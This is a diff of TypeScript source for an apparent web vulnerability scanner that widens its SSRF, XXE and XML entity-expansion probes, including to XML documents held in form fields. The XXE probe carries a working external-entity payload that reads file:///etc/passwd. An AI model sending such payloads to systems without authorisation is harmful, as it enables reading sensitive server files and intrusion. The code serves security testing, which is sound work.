@@ -1,5 +1,5 @@
 // Values that name what the server reads: files by a path, addresses that it fetches, entities of XML.
-import type { Exchange, Proof } from '../model.js';
+import type { Exchange, Param, Proof } from '../model.js';
 import { everyTurn, everywhere, product, proveBy, turnsOfSign, turnsOfWord, word } from './check.js';
 import type { Attack, Check, Probe } from './check.js';
 
@@ -37,12 +37,8 @@ async function traversal(probe: Probe): Promise<Proof | null> {
 
 async function ssrf(probe: Probe): Promise<Proof | null> {
   const { callbacks } = probe.parts;
-  const { name, value } = probe.param;
-  const fetches = /ur[il]|link|href|src|host|domain|site|feed|image|callback|webhook|fetch|proxy|dest|target/i.test(
-    name,
-  );
+  // any value may be what is fetched: one that is not costs one request
   if (callbacks === null) return probe.leaveOut();
-  if (!(fetches || /^https?:/i.test(value))) return null;
   return everyTurn(turnsOfWord, async () => {
     const { url, wasAsked, answer } = callbacks.issue();
     const exchange = await probe.with(url);
@@ -53,19 +49,39 @@ async function ssrf(probe: Probe): Promise<Proof | null> {
   });
 }
 
-async function xxe(probe: Probe): Promise<Proof | null> {
-  const { form } = probe;
+/** A value that is a document itself. */
+const isDocument = ({ name, value, isFixed }: Param): boolean =>
+  isFixed !== true && (/^\s*<[?!\w]/.test(value) || /(?:^|[_-])(?:xml|soap|svg|rss|opml)(?:$|[_-])/i.test(name));
+
+/** How a document with these declarations, and this text in it, is sent; null: the form takes none. */
+function wayOfXml({ form, talk }: Probe): ((declared: string, text: string) => Promise<Exchange | null>) | null {
   const field = form.params.find(({ place }) => place === 'body');
-  if (form.bodyKind !== 'xml' || field === undefined) return probe.leaveOut();
-  const send = async (entity: string): Promise<Exchange | null> =>
-    probe.talk.ask({
-      method: form.method,
-      url: form.url,
-      headers: { 'content-type': 'application/xml' },
-      body:
-        `<?xml version="1.0"?><!DOCTYPE request [<!ENTITY probe ${entity}>]>` +
-        `<request><${field.name}>&probe;</${field.name}></request>`,
-    });
+  if (form.bodyKind === 'xml' && field !== undefined)
+    return async (declared, text) =>
+      talk.ask({
+        method: form.method,
+        url: form.url,
+        headers: { 'content-type': 'application/xml' },
+        body:
+          `<?xml version="1.0"?><!DOCTYPE request [${declared}]>` +
+          `<request><${field.name}>${text}</${field.name}></request>`,
+      });
+  const own = form.params.find(isDocument);
+  if (own === undefined) return null;
+  const [root = 'request', inner] = [...own.value.matchAll(/<([A-Za-z][\w.-]{0,60})[\s>/]/g)].map(
+    ([, name = '']) => name,
+  );
+  return async (declared, text) => {
+    const held = inner === undefined ? text : `<${inner}>${text}</${inner}>`;
+    const document = `<?xml version="1.0"?><!DOCTYPE ${root} [${declared}]><${root}>${held}</${root}>`;
+    return talk.send(form, { [own.name]: document });
+  };
+}
+
+async function xxe(probe: Probe): Promise<Proof | null> {
+  const way = wayOfXml(probe);
+  if (way === null) return probe.leaveOut();
+  const send = async (entity: string): Promise<Exchange | null> => way(`<!ENTITY probe ${entity}>`, '&probe;');
   const file = 'SYSTEM "file:///etc/passwd"';
   const read = await everyTurn(turnsOfSign, async () => {
     const exchange = await send(file);
@@ -86,23 +102,15 @@ async function xxe(probe: Probe): Promise<Proof | null> {
 }
 
 async function entities(probe: Probe): Promise<Proof | null> {
-  const { form } = probe;
-  const field = form.params.find(({ place }) => place === 'body');
-  if (form.bodyKind !== 'xml' || field === undefined) return probe.leaveOut();
+  const way = wayOfXml(probe);
+  if (way === null) return probe.leaveOut();
   return everyTurn(turnsOfWord, async () => {
     const { left, right } = product();
-    const body =
-      `<?xml version="1.0"?><!DOCTYPE request [<!ENTITY one "${left}"><!ENTITY two "&one;x${right}">]>` +
-      `<request><${field.name}>&two;</${field.name}></request>`;
-    const exchange = await probe.talk.ask({
-      method: form.method,
-      url: form.url,
-      headers: { 'content-type': 'application/xml' },
-      body,
-    });
+    const declared = `<!ENTITY one "${left}"><!ENTITY two "&one;x${right}">`;
+    const exchange = await way(declared, '&two;');
     if (exchange === null || !exchange.body.includes(`${left}x${right}`)) return null;
     const why = 'Entities that the request declares are replaced, in each other.';
-    return { attack: body, exchange, neutral: null, why };
+    return { attack: declared, exchange, neutral: null, why };
   });
 }
 
